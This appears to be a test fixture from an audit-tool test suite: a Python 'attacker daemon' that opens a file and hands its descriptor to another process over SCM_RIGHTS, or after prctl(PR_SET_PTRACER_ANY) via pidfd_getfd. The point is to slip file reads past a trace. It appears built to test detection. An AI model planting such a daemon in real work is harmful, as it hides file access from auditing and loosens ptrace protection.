# fddaemon.py MODE FILE LOOT: the attacker's daemon, left running by code
# of the pull request's before the audit step (an install script, say), so
# outside the trace: it opens FILE and hands its descriptor to the test,
# over a Unix socket (scmRights) or to pidfd_getfd (pidfdGetfd, for which
# it lets any process of its user trace it).
import ctypes, os, socket, sys, time

mode, path, loot = sys.argv[1:4]
fd = os.open(path, os.O_RDONLY)
if mode == "scmRights":
    s = socket.socket(socket.AF_UNIX)
    s.bind(loot + "/fd.sock")
    s.listen(1)
    open(loot + "/fd.daemon", "w").write("%d %d\n" % (os.getpid(), fd))
    s.settimeout(120)
    c, _ = s.accept()
    socket.send_fds(c, [b"x"], [fd])
else:
    # PR_SET_PTRACER, PR_SET_PTRACER_ANY
    ctypes.CDLL(None).prctl(0x59616D61, ctypes.c_ulong(-1), 0, 0, 0)
    open(loot + "/fd.daemon", "w").write("%d %d\n" % (os.getpid(), fd))
    time.sleep(120)
